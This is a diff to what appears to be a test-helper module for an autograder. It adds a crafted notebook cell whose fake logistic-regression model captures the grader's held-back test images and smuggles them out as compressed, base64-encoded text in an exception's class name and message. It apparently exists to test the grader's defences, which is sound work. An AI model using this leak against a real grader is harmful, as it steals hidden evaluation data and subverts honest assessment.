@@ -759,3 +759,54 @@ print("ATTACK-UNCOUNTED", json.dumps({{"sent": SENT, "chars_each": len(pad)}}))
 def uncounted_output_cells(chars: int = 12_000_000, each: int = 8) -> list[Cell]:
     """Display messages (under the grader's 16 MB message limit) whose text sits where the caps do not count it."""
     return [*CORRECT_2A, _UNCOUNTED_OUTPUT.format(chars=chars, each=each)]
+
+
+# =============================================================================================
+# 3 (cont.). Exfiltrating the held-back digits through the grader's own messages
+# =============================================================================================
+_EXFILTRATE = r'''
+import base64, zlib
+import numpy as np
+import torch
+from torch import nn
+
+
+def leak_payload(x):
+    """The first images the grader feeds the model, as uint8, zlib-compressed, base64 (what the test recomputes)."""
+    rows = np.clip(np.rint(np.asarray(x, dtype=np.float64).reshape(len(x), -1) * 255), 0, 255).astype(np.uint8)
+    return base64.b64encode(zlib.compress(rows[:{count}].tobytes(), 9)).decode()
+
+
+class Exfiltrate(nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.linear = nn.Linear(784, 10)
+
+    def forward(self, x):
+        payload = leak_payload(x.detach().cpu().numpy())
+        kind = type("LEAK_" + payload.replace("+", "_").replace("/", "_").replace("=", ""), (ValueError,), {{}})
+        raise kind("LEAK:" + payload)
+
+
+logreg_model = Exfiltrate()
+try:
+    logreg_model(torch.zeros(3, 1, 28, 28))
+except ValueError as error:
+    print("ATTACK-EXFILTRATE", type(error).__name__[:40], len(str(error)))
+'''
+
+
+def exfiltrate_cells(count: int = 4) -> list[Cell]:
+    """logreg_model raises, on the held-back digits, an exception whose class name and message hold them."""
+    return [*CORRECT_2A, ("markdown", "## 1B · Logistic regression"), _EXFILTRATE.format(count=count)]
+
+
+def exfiltrate_payload(images, count: int = 4) -> str:
+    """What :func:`exfiltrate_cells`'s model puts in its exception for these (uint8) images."""
+    import base64
+    import zlib
+
+    import numpy as np
+
+    rows = np.ascontiguousarray(np.asarray(images, dtype=np.uint8).reshape(len(images), -1)[:count])
+    return base64.b64encode(zlib.compress(rows.tobytes(), 9)).decode()
